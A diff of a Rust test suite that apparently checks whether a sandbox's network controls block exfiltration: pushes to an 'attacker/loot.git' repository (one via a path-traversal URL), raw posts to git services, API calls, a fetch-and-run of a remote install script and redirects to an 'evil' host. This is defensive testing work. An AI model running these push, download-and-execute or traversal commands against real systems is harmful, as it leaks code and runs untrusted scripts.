@@ -132,23 +132,27 @@ fn push(name: &str, to: &str, trace: &str) -> Step {
 fn other_repository() -> Case {
     Case::new("X-04", Weak::Broken)
         .controls(&["control git fetch"])
-        .step(push("another owner's", "https://git.test/attacker/loot.git HEAD:refs/heads/{mark}", "attacker/loot.git"))
+        .step(push(
+            "another owner's",
+            "https://git.test/attacker/{mark}-loot.git HEAD:refs/heads/{mark}",
+            "attacker/{mark}-loot.git",
+        ))
         .step(push(
             "another of the same owner",
-            "https://git.test/acme/other.git HEAD:refs/heads/{mark}",
-            "acme/other.git",
+            "https://git.test/acme/{mark}-other.git HEAD:refs/heads/{mark}",
+            "acme/{mark}-other.git",
         ))
         .step(push(
             "in other letters",
-            "https://git.test/ACME/app.git/../../attacker/loot.git HEAD:refs/heads/{mark}",
-            "attacker/loot.git",
+            "https://git.test/ACME/{mark}.git/../../attacker/{mark}-loot.git HEAD:refs/heads/{mark}",
+            "attacker/{mark}-loot.git",
         ))
         .step(connect("github.com:443", "no_route", "forge"))
 }
 
 fn own_remote() -> Case {
-    let own = "https://git.test/acme/app.git";
-    let asks = "git-receive-pack";
+    let own = "https://git.test/acme/{mark}.git";
+    let asks = "/acme/{mark}.git/info/refs?service=git-receive-pack";
     Case::new("X-05", Weak::Broken)
         .controls(&["control git fetch"])
         .step(push("a branch", &format!("{own} HEAD:refs/heads/{{mark}}"), asks))
@@ -161,7 +165,7 @@ fn own_remote() -> Case {
 
 fn other_services() -> Case {
     let post = |name: &str, service: &str, kind: &str, data: &str| {
-        let url = format!("https://git.test/acme/app.git/{service}");
+        let url = format!("https://git.test/acme/{{mark}}.git/{service}");
         let kind = format!("Content-Type: {kind}");
         let args = ["-o", "/dev/null", "-w", "%{http_code}", "-H", &kind, "--data-binary", data, &url];
         curl(name, &args, &["0 403", "0 405"], &["0 200"]).traced("forge", "{mark} as a service").everywhere()
@@ -169,7 +173,7 @@ fn other_services() -> Case {
     let service = |service: &str| post(service, service, "application/octet-stream", "{mark} as a service");
     let fetch = |name: &str, data: &str| post(name, "git-upload-pack", "application/x-git-upload-pack-request", data);
     let large = "p=$(printf '0032have %040d\\n' 7); { for i in $(seq 40000); do printf '%s\\n' \"$p\"; done; echo '{mark} as a service'; } > /tmp/haves-{mark}-$$; \
-        curl -sS -o /dev/null -w '%{http_code}' -H 'Content-Type: application/x-git-upload-pack-request' --data-binary @/tmp/haves-{mark}-$$ https://git.test/acme/app.git/git-upload-pack";
+        curl -sS -o /dev/null -w '%{http_code}' -H 'Content-Type: application/x-git-upload-pack-request' --data-binary @/tmp/haves-{mark}-$$ https://git.test/acme/{mark}.git/git-upload-pack";
     Case::new("X-06", Weak::Broken)
         .controls(&["control git fetch"])
         .step(service("git-upload-archive"))
@@ -190,7 +194,7 @@ fn forge_api() -> Case {
     let post = |path: &str| {
         let url = format!("https://api.github.com{path}");
         let args = ["--cacert", "ca.pem", "-d", "{mark} to the api", &url];
-        curl(path, &args, &["56", "0 *403*"], &["0 from forge api"]).traced("forge api", "{mark} to the api")
+        curl(path, &args, &["56"], &["0 from forge api"]).traced("forge api", "{mark} to the api")
     };
     Case::new("X-07", Weak::Broken)
         .controls(&[BY_PROXY])
@@ -199,14 +203,12 @@ fn forge_api() -> Case {
 }
 
 fn installer() -> Case {
-    let command = "curl -sS https://registry.test/install.sh > /tmp/install-{mark}.sh && sh /tmp/install-{mark}.sh >/dev/null 2>&1; echo ran";
+    // What is printed in the end shows that there was a script to run: it has two lines.
+    let command = "curl -sS https://registry.test/install.sh > /tmp/install-{mark}.sh && MARK={mark} sh /tmp/install-{mark}.sh >/dev/null 2>&1; \
+        grep -c installed /tmp/install-{mark}.sh";
     Case::new("X-10", Weak::Broken)
-        .controls(&[BY_PROXY])
-        .step(shell("a package's script", command, &["0 ran"], &[]).traced("evil", "/installed").within(20.0))
-        .step(
-            shell("the script was fetched", "grep -c installed /tmp/install-{mark}.sh || true", &["0 *"], &[])
-                .within(20.0),
-        )
+        .controls(&[BY_PROXY, "control a registry"])
+        .step(shell("a package's script", command, &["0 2"], &[]).traced("evil", "/installed?{mark}").within(20.0))
 }
 
 fn prompts() -> Case {
@@ -214,8 +216,16 @@ fn prompts() -> Case {
 }
 
 fn redirects() -> Case {
-    let followed =
-        ["-L", "-H", "Connection: close", "-o", "/dev/null", "-w", "%{http_code}", "http://plain.test/redirect?{mark}"];
+    let followed = [
+        "-L",
+        "-H",
+        "Connection: close",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "http://plain.test/redirect?{mark}-curl",
+    ];
     Case::new("X-13", Weak::Broken)
         .controls(&[BY_PROXY])
         .step(
@@ -224,11 +234,11 @@ fn redirects() -> Case {
                 bad: vec!["200*".into()],
                 traces: Vec::new(),
                 record: None,
-                ..get("http://plain.test/redirect", &host("plain.test"), "302 x", "", "evil")
+                ..get("http://plain.test/redirect?{mark}-raw", &host("plain.test"), "302 x", "", "evil")
             }
-            .traced("evil", "/landed"),
+            .traced("evil", "/landed?{mark}-raw"),
         )
-        .step(curl("followed by the client", &followed, &["0 403"], &["0 200"]).traced("evil", "/landed"))
+        .step(curl("followed by the client", &followed, &["0 403"], &["0 200"]).traced("evil", "/landed?{mark}-curl"))
 }
 
 fn fetched_by_others() -> Case {
